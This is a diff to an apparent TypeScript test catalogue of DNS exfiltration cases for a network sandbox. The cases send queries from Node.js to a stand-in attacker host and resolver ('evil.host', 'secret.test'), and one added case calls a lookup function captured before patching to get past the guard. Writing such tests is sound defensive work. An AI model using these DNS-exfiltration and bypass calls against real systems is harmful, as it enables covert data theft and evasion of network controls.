@@ -9,7 +9,7 @@ const asked = (ask: (done: (error: Error | null, ...results: unknown[]) => void)
 /** Names that hold what they carry out. The server knows none of them: what it is asked is what reaches it. */
 export const dnsAttacks: readonly Attack[] = family(
   'node:dns',
-  ['name-queries'],
+  ['name-queries', 'saved-functions'],
   [
     ['resolve', 'dns-query', ({ evil }) => known(asked((done) => dns.resolve(evil.host, done)))],
     ['resolve of a type', 'dns-query', ({ evil }) => known(asked((done) => dns.resolve(evil.host, 'TXT', done)))],
@@ -31,6 +31,7 @@ export const dnsAttacks: readonly Attack[] = family(
     ['promises.lookupService', 'dns-query', (scene) => promises.lookupService(addressOf(scene), 80)],
     ['dns.promises.resolve6', 'dns-query', ({ evil }) => known(dns.promises.resolve6(evil.host))],
     ['promisify(lookup)', ['dns-query', 'host-not-allowed'], ({ evil }) => promisify(dns.lookup)(evil.host)],
+    ['a lookup that was taken before', ['dns-query', 'host-not-allowed'], ({ early, evil }) => promisify(early.lookup)(evil.host), { layers: ['saved-functions'] }],
     ['a Resolver', 'dns-query', ({ evil }) => known(asked((done) => resolverOf(dns.Resolver, evil.udpPort).resolve4('secret.test', done)))],
     ['a Resolver for TXT', 'dns-query', ({ evil }) => known(asked((done) => resolverOf(dns.Resolver, evil.udpPort).resolveTxt('secret.test', done)))],
     ['a Resolver of promises', 'dns-query', ({ evil }) => known(resolverOf(promises.Resolver, evil.udpPort).resolve4('secret.test'))],
